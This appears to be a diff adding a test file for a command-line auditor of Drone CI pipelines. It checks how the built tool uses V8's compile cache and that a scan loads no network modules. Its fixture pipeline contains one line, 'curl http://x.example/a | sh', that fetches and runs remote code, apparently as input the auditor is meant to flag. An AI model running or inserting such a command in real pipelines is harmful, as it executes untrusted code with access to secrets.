@@ -1,0 +1,82 @@
+import { spawnSync } from 'node:child_process';
+import { cpSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join, resolve } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from 'vitest';
+
+// What a start needs, counted; bench/ has the times.
+
+const pipeline = `kind: pipeline
+type: docker
+name: default
+steps:
+  - {name: build, image: alpine, environment: {TOKEN: {from_secret: token}}, commands: [make, 'curl http://x.example/a | sh']}
+`;
+
+/** A copy of the built tool, in which its loader says what V8 made of what was compiled beforehand. */
+function copyOfTool(): string {
+  const folder = mkdtempSync(join(tmpdir(), 'drone-audit-start-'));
+  cpSync('dist', join(folder, 'dist'), { recursive: true });
+  const loader = join(folder, 'dist/cli.js');
+  const text = readFileSync(loader, 'utf8');
+  const told = text.replace(
+    /( {2}const script = new Script\(.*\n)/,
+    '$1  process.on("exit", () => console.error(name, cachedData !== undefined, script.cachedDataRejected === true));\n',
+  );
+  expect(told).not.toBe(text);
+  writeFileSync(loader, told);
+  return folder;
+}
+
+function run(folder: string, args: readonly string[], options: readonly string[] = [], cwd = folder) {
+  const { stdout, stderr, status } = spawnSync(process.execPath, [...options, join(folder, 'dist/cli.js'), ...args], {
+    cwd,
+    encoding: 'utf8',
+    env: { PATH: process.env.PATH ?? '' },
+  });
+  return { stdout, status, lines: stderr.trimEnd().split('\n') };
+}
+
+describe('the built tool', () => {
+  let folder: string;
+  let small: string;
+  beforeAll(() => {
+    folder = copyOfTool();
+    small = mkdtempSync(join(tmpdir(), 'drone-audit-start-'));
+    writeFileSync(join(small, '.drone.yml'), pipeline);
+  });
+
+  afterAll(() => {
+    for (const each of [folder, small]) rmSync(each, { recursive: true });
+  });
+
+  it('runs what was compiled beforehand for this Node', () => {
+    expect(run(folder, ['--version']).lines).toEqual(['command-line true false']);
+    expect(run(folder, ['scan'], [], small).lines.sort()).toEqual(['command-line true false', 'commands true false']);
+  });
+
+  it('says the same without it, and with what another Node compiled', () => {
+    const [own = ''] = readdirSync(join(folder, 'dist/compiled'));
+    const usual = run(folder, ['scan'], [], small);
+    const path = join(folder, 'dist/compiled', own);
+    writeFileSync(join(path, 'commands.bin'), Buffer.alloc(4096, 1));
+    const refused = run(folder, ['scan'], [], small);
+    expect(refused.lines).toContain('commands true true');
+    rmSync(path, { recursive: true });
+    const without = run(folder, ['scan'], [], small);
+    expect(without.lines).toContain('commands false false');
+    for (const each of [refused, without]) expect([each.stdout, each.status]).toEqual([usual.stdout, usual.status]);
+  });
+
+  it('loads nothing for the network, for hashes or for other programs where a small audit is told as text', () => {
+    const names = join(small, 'names.cjs');
+    writeFileSync(
+      names,
+      'process.on("exit", () => console.error(process.moduleLoadList.filter((name) => /^NativeModule (?:http|https|net|tls|zlib|crypto|dgram|child_process)$/.test(name)).join()));',
+    );
+    expect(run(resolve('.'), ['scan'], ['--require', names], small)).toMatchObject({ lines: [''], status: 1 });
+    expect(run(resolve('.'), ['scan', '--format', 'json'], ['--require', names], small).lines).toEqual([
+      'NativeModule crypto',
+    ]);
+  });
+});
